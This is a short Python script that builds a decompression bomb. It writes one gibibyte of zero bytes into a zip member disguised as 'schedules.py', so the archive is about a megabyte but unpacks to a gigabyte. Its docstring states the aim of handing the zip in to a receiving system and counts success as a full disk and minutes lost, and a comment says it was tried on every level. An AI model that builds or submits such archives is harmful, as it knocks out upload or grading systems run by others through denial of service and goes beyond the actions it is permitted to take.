"""Hand in a zip of one megabyte that is a gigabyte: a module of zeros, honestly declared.

Success: the gigabyte is unpacked: a full disk, no memory, minutes.
"""
# tried on every level

import zipfile
from pathlib import Path


def make(path: Path) -> None:
    place = path.with_name(path.name + ".zip")
    with (
        zipfile.ZipFile(place, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("schedules.py", "w", force_zip64=True) as member,
    ):
        for _ in range(64):
            member.write(bytes(1 << 24))
